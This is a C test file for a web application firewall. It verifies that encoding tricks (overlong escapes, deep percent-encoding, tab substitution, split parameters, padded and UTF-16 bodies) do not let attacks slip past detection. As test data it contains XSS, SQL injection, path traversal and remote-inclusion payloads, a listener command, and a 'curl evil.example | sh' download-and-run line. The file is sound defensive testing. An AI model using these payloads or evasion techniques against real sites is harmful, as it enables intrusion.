/* Evasions found by scripts/eval/evade.py, classified with the shipped
 * signatures: an encoding normalisation did not undo must leave either
 * the decoded attack or the evasion signal (rule 800000), never a clean
 * request; the benign look-alikes stay clean. */
#include <apr_strings.h>
#include "lw_test_engine.h"
#include "lw_body.h"

static const char UA[] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
    "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

static int classify(const lw_engine_t *e, const char *uri, apr_pool_t *p,
                    lw_result_t *res)
{
    lw_header_t h[1] = { { "User-Agent", UA } };
    lw_request_t req;
    lw_limits_t lim;

    lw_limits_default(&lim);
    lw_test_request(&req, "GET", uri, h, 1);
    return lw_classify(e, &req, &lim, p, res);
}

/* s percent-encoded again, every byte but letters and digits. */
static const char *enc(apr_pool_t *p, const char *s, int times)
{
    while (times-- > 0) {
        char *o = apr_palloc(p, strlen(s) * 3 + 1), *d = o;
        for (; *s; s++) {
            unsigned char c = (unsigned char)*s;
            if ((c | 0x20) >= 'a' && (c | 0x20) <= 'z')
                *d++ = (char)c;
            else if (c >= '0' && c <= '9')
                *d++ = (char)c;
            else
                d += apr_snprintf(d, 4, "%%%02X", c);
        }
        *d = '\0';
        s = o;
    }
    return s;
}

static int flagged_as(const lw_engine_t *e, const char *uri, unsigned cat,
                      apr_pool_t *p)
{
    lw_result_t res;
    return classify(e, uri, p, &res) == 1 && (res.categories & (1u << cat));
}

static void test_overlong_and_nul_escapes(const lw_engine_t *e,
                                          apr_pool_t *p)
{
    /* An overlong '%' (c0 a5), or a NUL inside an escape, folded after
     * decoding, makes an escape the application decodes. */
    CHECK(flagged_as(e, "/index.php?q=%c0%a53Cscript%c0%a53Ealert(1)"
                     "%c0%a53C/script%c0%a53E", LW_CAT_XSS, p));
    CHECK(flagged_as(e, "/index.php?q=%25%00%33Cscript%25%00%33Ealert(1)"
                     "%25%00%33C/script%25%00%33E", LW_CAT_XSS, p));
    CHECK(flagged_as(e, "/index.php?id=1%c0%a527%20or%20%c0%a5271%c0%a527"
                     "=%c0%a5271", LW_CAT_SQLI, p));
    CHECK(flagged_as(e, "/index.php?id=%c0%a50Aid", LW_CAT_RCE, p));
}

static void test_deep_encoding(const lw_engine_t *e, apr_pool_t *p)
{
    const char *xss = "<script>alert(1)</script>";
    lw_result_t res;
    const lw_hit_t *h;

    /* Six levels are decoded: the attack itself is found. */
    CHECK(flagged_as(e, apr_pstrcat(p, "/index.php?q=", enc(p, xss, 6),
                                    NULL), LW_CAT_XSS, p));
    /* Ten levels: more than normalisation undoes, the evasion signal. */
    CHECK(classify(e, apr_pstrcat(p, "/index.php?q=", enc(p, xss, 10), NULL),
                   p, &res) == 1);
    h = lw_test_find_hit(&res, LW_EVASION_RULE_ID);
    CHECK(h != NULL && h->detail && strstr(h->detail, "encoded more times"));
    /* The same in a cookie, read by the detectors only. */
    {
        lw_header_t hd[2] = { { "User-Agent", UA }, { "Cookie", NULL } };
        lw_request_t req;
        lw_limits_t lim;
        hd[1].value = apr_pstrcat(p, "pref=", enc(p, xss, 10), NULL);
        lw_limits_default(&lim);
        lw_test_request(&req, "GET", "/", hd, 2);
        CHECK(lw_classify(e, &req, &lim, p, &res) == 1
              && lw_test_find_hit(&res, LW_EVASION_RULE_ID));
    }
    /* Benign: a redirect URL encoded three and eight times, a '%' that is
     * no escape. */
    CHECK(classify(e, apr_pstrcat(p, "/r?u=", enc(p, "https://example.com/"
                   "a?b=c&d=e", 3), NULL), p, &res) == 0);
    CHECK(classify(e, apr_pstrcat(p, "/r?u=", enc(p, "https://example.com/"
                   "a?b=c&d=e", 8), NULL), p, &res) == 0);
    CHECK(classify(e, "/s?q=100%25+sure+50%+off", p, &res) == 0);
}

/* s wrapped in one more layer of an encoding the application undoes,
 * then percent-encoded as a query value: 'u' every byte as %uXXXX, 'x'
 * every byte but letters and digits as an entity &#xHH;, 'n' a NUL after
 * every byte, 'o' every byte but letters and digits as an overlong
 * two-byte form, '2' percent-encoded once more. */
static const char *wrap(apr_pool_t *p, const char *s, int how)
{
    char *o = apr_palloc(p, strlen(s) * 12 + 1), *d = o;

    if (how == '2')
        return enc(p, enc(p, s, 1), 1);
    for (; *s; s++) {
        unsigned char c = (unsigned char)*s;
        int alnum = ((c | 0x20) >= 'a' && (c | 0x20) <= 'z')
                    || (c >= '0' && c <= '9');
        if (how == 'u')
            d += apr_snprintf(d, 7, "%%u%04x", c);
        else if (how == 'o' && !alnum)
            d += apr_snprintf(d, 7, "%%%02x%%%02x", 0xc0 | (c >> 6),
                              0x80 | (c & 0x3f));
        else if (how == 'x' && !alnum)
            d += apr_snprintf(d, 7, "&#x%x;", c);
        else {
            *d++ = (char)c;
            if (how == 'n')
                *d++ = '\x01';   /* a NUL once encoded below */
        }
    }
    *d = '\0';
    if (how == 'u' || how == 'o')
        return o;
    {
        /* percent-encoded as sent ('\x01' stands for the NUL) */
        char *q = (char *)enc(p, o, 1), *r;
        while ((r = strstr(q, "%01")) != NULL)
            r[2] = '0';
        return q;
    }
}

static void test_raw_rules_under_one_more_layer(const lw_engine_t *e,
                                                apr_pool_t *p)
{
    /* attacks only a rule on the bytes as sent (form raw) flags: their
     * own encoding (%00 cutting a suffix, a %0A before a mail header,
     * %c1%af between path names) or backslashes the normal form turns
     * into slashes */
    static const char *const seeds[] = {
        "http://evil.example.com/a.txt%00",
        "\\\\198.51.100.9\\share\\x.php",
        "x@example.com%0ATo:%20other@example.org",
        "..%c1%afetc%c1%afpasswd",
        "//evil.example.org/pub/shell.txt?",
    };
    static const char hows[] = "uxno2";
    static const char *const benign[] = {
        "Fish & Chips, 10\xc2\xa0km", "caf\xc3\xa9 cr\xc3\xa8me",
        "https://example.com/a?b=c&d=e", "100% sure, 50%25 off",
    };
    lw_result_t res;
    int i, k;

    for (i = 0; i < (int)(sizeof(seeds) / sizeof(seeds[0])); i++) {
        CHECK(classify(e, apr_pstrcat(p, "/index.php?id=", enc(p, seeds[i],
                                      1), NULL), p, &res) == 1);
        for (k = 0; hows[k]; k++) {
            const char *u = apr_pstrcat(p, "/index.php?id=",
                                        wrap(p, seeds[i], hows[k]), NULL);
            int got = classify(e, u, p, &res);
            if (got != 1)
                fprintf(stderr, "clean: %s\n", u);
            CHECK(got == 1);
        }
    }
    for (i = 0; i < (int)(sizeof(benign) / sizeof(benign[0])); i++)
        for (k = 0; hows[k]; k++) {
            const char *u = apr_pstrcat(p, "/index.php?id=",
                                        wrap(p, benign[i], hows[k]), NULL);
            int got = classify(e, u, p, &res);
            if (got != 0)
                fprintf(stderr, "flagged: %s\n", u);
            CHECK(got == 0);
        }
}

static void test_semicolon_parts(const lw_engine_t *e, apr_pool_t *p)
{
    /* values a rule anchored at the value's start flags, handed over as
     * a ';' part of another parameter (CGI.pm and others split there) */
    static const char *const attacks[] = {
        ".htaccess", "/etc/apt/sources.list", "sleep 10",
        "user.$regex=^a",
    };
    static const char *const benign[] = {
        "/s?q=hello;world", "/s?style=color:red;font-size:12px",
        "/s?ids=1;2;3&sort=asc", "/s?q=see+/etc/hosts;+then+restart",
    };
    lw_result_t res;
    int i;

    for (i = 0; i < 4; i++) {
        const char *v = enc(p, attacks[i], 1);
        CHECK(classify(e, apr_pstrcat(p, "/index.php?id=", v, NULL), p,
                       &res) == 1);
        CHECK(classify(e, apr_pstrcat(p, "/index.php?a=1;id=", v, NULL), p,
                       &res) == 1);
    }
    for (i = 0; i < 4; i++)
        CHECK(classify(e, benign[i], p, &res) == 0);
}

static void test_tab_for_space(const lw_engine_t *e, apr_pool_t *p)
{
    /* sh, cmd, PowerShell and SQL read a tab as they read a space */
    static const char *const attacks[] = {
        "powershell whoami", "nc -lvp 4444", "1=('sl' 'eep')",
        "x; cat /etc/passwd", "1' or 1=1-- ",
    };
    lw_result_t res;
    int i;

    for (i = 0; i < (int)(sizeof(attacks) / sizeof(attacks[0])); i++) {
        char *t = apr_pstrdup(p, attacks[i]), *c;
        CHECK(classify(e, apr_pstrcat(p, "/index.php?id=", enc(p, t, 1),
                                      NULL), p, &res) == 1);
        for (c = t; *c; c++)
            if (*c == ' ')
                *c = '\t';
        CHECK(classify(e, apr_pstrcat(p, "/index.php?id=", enc(p, t, 1),
                                      NULL), p, &res) == 1);
    }
    /* benign text with tabs (a pasted table row) stays clean */
    CHECK(classify(e, "/s?q=name%09-%09O%27Brien%09score%091", p, &res) == 0);
}

static void test_repeated_names_joined(const lw_engine_t *e, apr_pool_t *p)
{
    /* a payload split across a name given twice: whole in the values
     * joined with ',' (ASP.NET, Express) or without a separator */
    static const char *const attacks[] = {
        "/index.php?id=1+union&id=select+pass+from+users--",
        "/index.php?id=%3Bi&id=d%3B",
        "/index.php?a=1&q=%3Cscr&b=2&q=ipt%3Ealert(1)%3C%2Fscript%3E",
        "/index.php?f=..%2F..%2F..%2Fet&f=c%2Fpasswd",
    };
    /* names given more than once in ordinary queries */
    static const char *const benign[] = {
        "/shop?color=red&color=blue&size=m&size=l",
        "/s?tag=select&tag=union&tag=from",
        "/api?ids=1&ids=2&ids=3&fields=name&fields=email",
        "/s?q=rock+%26+roll&q=and+more&sort=asc&sort=desc",
        "/f?path=%2Fhome&path=docs&path=a.txt",
    };
    lw_result_t res;
    size_t i;

    for (i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        CHECK(classify(e, attacks[i], p, &res) == 1);
        /* the same values under two names are not one */
        if (i == 1)
            CHECK(classify(e, "/index.php?id=%3Bi&ie=d%3B", p, &res) == 0);
    }
    for (i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
        CHECK(classify(e, benign[i], p, &res) == 0);
}

/* A form body of n short fields, then the value v as "q". */
static int classify_form(const lw_engine_t *e, int n, const char *v,
                         apr_pool_t *p, lw_result_t *res)
{
    lw_header_t h[1] = { { "User-Agent", UA } };
    lw_request_t req;
    lw_limits_t lim;
    char *body = apr_palloc(p, (apr_size_t)n * 8 + strlen(v) + 8), *d = body;
    int i;

    for (i = 0; i < n; i++)
        d += apr_snprintf(d, 9, "f%d=v&", i % 1000);
    strcpy(d, "q=");
    strcat(d, v);
    lw_limits_default(&lim);
    lw_test_request(&req, "POST", "/form.php", h, 1);
    req.body = body;
    req.body_len = strlen(body);
    req.body_type = "application/x-www-form-urlencoded";
    return lw_classify(e, &req, &lim, p, res);
}

static void test_form_fields_past_the_bound(const lw_engine_t *e,
                                            apr_pool_t *p)
{
    /* values only a detector flags, after more fields than the reader
     * yields one by one (LW_BODY_MAX_FIELDS) */
    static const char *const attacks[] = {
        "%3Buname+-a", "%21%21%5B%5D%2B%21%21%5B%5D%2B%5B%5D",
        "Please+%60curl+-s+evil.example%2Fp+%7C+sh%60+thanks",
        /* and one only a rule anchored at the value's start flags */
        "ftp%3A%2F%2F198.51.100.44%2Fpub%2Fr.txt"
    };
    lw_result_t res;
    int i;

    for (i = 0; i < 4; i++) {
        CHECK(classify_form(e, 10, attacks[i], p, &res) == 1);
        CHECK(classify_form(e, 1100, attacks[i], p, &res) == 1);
    }
    CHECK(classify_form(e, 1100, "hello+world%2C+see+you+at+5", p, &res) == 0);
    CHECK(classify_form(e, 3000, "a+b", p, &res) == 0);
}

static int classify_raw_body(const lw_engine_t *e, const char *type,
                             const char *body, apr_size_t len, apr_pool_t *p,
                             lw_result_t *res)
{
    lw_header_t h[1] = { { "User-Agent", UA } };
    lw_request_t req;
    lw_limits_t lim;

    lw_limits_default(&lim);
    lw_test_request(&req, "POST", "/api", h, 1);
    req.body = body;
    req.body_len = len;
    req.body_type = type;
    return lw_classify(e, &req, &lim, p, res);
}

static int classify_body(const lw_engine_t *e, const char *type,
                         const char *body, apr_pool_t *p, lw_result_t *res)
{
    return classify_raw_body(e, type, body, strlen(body), p, res);
}

static void test_text_plain_json(const lw_engine_t *e, apr_pool_t *p)
{
    static const char json[] = " {\"q\": \"1' union select password "
                               "from users-- \", \"n\": [\"<svg onload="
                               "alert(1)>\"]}";
    lw_result_t res;
    int i;

    CHECK(classify_body(e, "application/json", json, p, &res) == 1);
    CHECK(classify_body(e, "text/plain;charset=UTF-8", json, p, &res) == 1);
    CHECK(res.categories & (1u << LW_CAT_SQLI));
    for (i = 0; i < res.nhits; i++)
        CHECK(strncmp(res.hits[i].field, "body:json:$.", 12) == 0);
    CHECK(classify_body(e, "TEXT/PLAIN", "[\"<script>alert(1)</script>\"]",
                        p, &res) == 1);
    CHECK(classify_body(e, "text/plain", "<r><q>&lt;script&gt;alert(1)"
                        "&lt;/script&gt;</q></r>", p, &res) == 1);
    /* text/plain that is text: one text field, prose stays clean */
    CHECK(classify_body(e, "text/plain", "hello, {see} the <b>notes</b>",
                        p, &res) == 0);
    CHECK(lw_body_kind_of("text/plain", "note: 1' union select", 21)
          == LW_BODY_TEXT);
    /* any other type, or none, is read by its bytes too */
    CHECK(lw_body_kind_of("text/html", "{\"a\": 1}", 8) == LW_BODY_JSON);
    CHECK(lw_body_kind_of(NULL, "{\"a\": 1}", 8) == LW_BODY_JSON);
}

/* A body of kind k (0 JSON, 1 XML, 2 multipart) holding n short fields,
 * then the value v. */
static const char *padded_body(apr_pool_t *p, int k, int n, const char *v,
                               const char **type)
{
    static const char *const types[] = {
        "application/json", "application/xml",
        "multipart/form-data; boundary=zzPad"
    };
    char *b = apr_palloc(p, (apr_size_t)n * 64 + strlen(v) + 128), *d = b;
    int i;

    *type = types[k];
    d += k == 0 ? apr_snprintf(d, 8, "{") : k == 1 ? apr_snprintf(d, 8, "<r>")
                                                   : 0;
    for (i = 0; i < n; i++)
        d += k == 0 ? apr_snprintf(d, 32, "\"k%d\":1,", i)
             : k == 1 ? apr_snprintf(d, 32, "<k%d>1</k%d>", i, i)
             : apr_snprintf(d, 64, "--zzPad\r\nContent-Disposition: "
                            "form-data; name=\"k%d\"\r\n\r\n1\r\n", i);
    if (k == 0)
        apr_snprintf(d, strlen(v) + 16, "\"q\":\"%s\"}", v);
    else if (k == 1)
        apr_snprintf(d, strlen(v) + 16, "<q>%s</q></r>", v);
    else
        apr_snprintf(d, strlen(v) + 96, "--zzPad\r\nContent-Disposition: "
                     "form-data; name=\"q\"\r\n\r\n%s\r\n--zzPad--\r\n", v);
    return b;
}

static void test_body_fields_past_the_bound(const lw_engine_t *e,
                                            apr_pool_t *p)
{
    /* values only a detector, or a rule anchored at the value's start,
     * flags: the body read whole by the regex rules cannot show them */
    static const char *const attacks[] = {
        ";uname", "/var/log/apache2/error_log"
    };
    lw_result_t res;
    const char *type, *b;
    int i, k;

    for (k = 0; k < 3; k++) {
        for (i = 0; i < 2; i++) {
            b = padded_body(p, k, 10, attacks[i], &type);
            CHECK(classify_body(e, type, b, p, &res) == 1);
            b = padded_body(p, k, 1100, attacks[i], &type);
            CHECK(classify_body(e, type, b, p, &res) == 1);
            CHECK(res.nhits > 0 && strncmp(res.hits[0].field, "body", 4)
                  == 0);
        }
        b = padded_body(p, k, 3000, "see you at 5, O'Brien", &type);
        CHECK(classify_body(e, type, b, p, &res) == 0);
    }
}

/* body in UTF-16/32 (le: little-endian; unit: 2 or 4; bom: with a byte
 * order mark), from ASCII text. */
static const char *wide(apr_pool_t *p, const char *text, int unit, int le,
                        int bom, apr_size_t *len)
{
    apr_size_t n = strlen(text) + (bom ? 1 : 0), i, k;
    char *o = apr_pcalloc(p, n * (apr_size_t)unit), *d = o;

    for (i = 0; i < n; i++, d += unit) {
        unsigned cp = bom && i == 0 ? 0xfeffu
                      : (unsigned char)text[i - (bom ? 1 : 0)];
        for (k = 0; k < (apr_size_t)unit; k++)
            d[le ? k : (apr_size_t)unit - 1 - k] = (char)(cp >> (8 * k));
    }
    *len = n * (apr_size_t)unit;
    return o;
}

static void test_wide_bodies(const lw_engine_t *e, apr_pool_t *p)
{
    /* values the JSON reader must yield as fields to be found: a
     * detector's (";uname"), a rule anchored at the value's start */
    static const char *const js[] = {
        "{\"cmd\": \";uname\", \"n\": 1}",
        "{\"f\": \"/var/log/apache2/error_log\"}",
    };
    static const int forms[][3] = {      /* unit, le, bom */
        { 2, 1, 0 }, { 2, 0, 0 }, { 2, 1, 1 }, { 2, 0, 1 },
        { 4, 1, 0 }, { 4, 0, 1 }
    };
    lw_result_t res;
    apr_size_t len;
    const char *b;
    int i, k;

    for (i = 0; i < 2; i++) {
        CHECK(classify_raw_body(e, "application/json", js[i],
                                strlen(js[i]), p, &res) == 1);
        for (k = 0; k < 6; k++) {
            b = wide(p, js[i], forms[k][0], forms[k][1], forms[k][2], &len);
            CHECK(classify_raw_body(e, "application/json", b, len, p,
                                    &res) == 1);
        }
    }
    b = wide(p, "<r><q>;uname</q></r>", 2, 1, 1, &len);
    CHECK(classify_raw_body(e, "application/xml", b, len, p, &res) == 1);
    /* benign JSON in UTF-16 stays clean */
    b = wide(p, "{\"name\": \"O'Brien\", \"note\": \"see you at 5\"}",
             2, 1, 1, &len);
    CHECK(classify_raw_body(e, "application/json", b, len, p, &res) == 0);
}

int main(void)
{
    lw_engine_t *e;

    LW_TEST_BEGIN(p);
    e = lw_test_shipped_engine(p);
    CHECK(e != NULL);
    if (e) {
        test_overlong_and_nul_escapes(e, p);
        test_deep_encoding(e, p);
        test_raw_rules_under_one_more_layer(e, p);
        test_semicolon_parts(e, p);
        test_tab_for_space(e, p);
        test_repeated_names_joined(e, p);
        test_form_fields_past_the_bound(e, p);
        test_text_plain_json(e, p);
        test_body_fields_past_the_bound(e, p);
        test_wide_bodies(e, p);
    }
    LW_TEST_END();
}
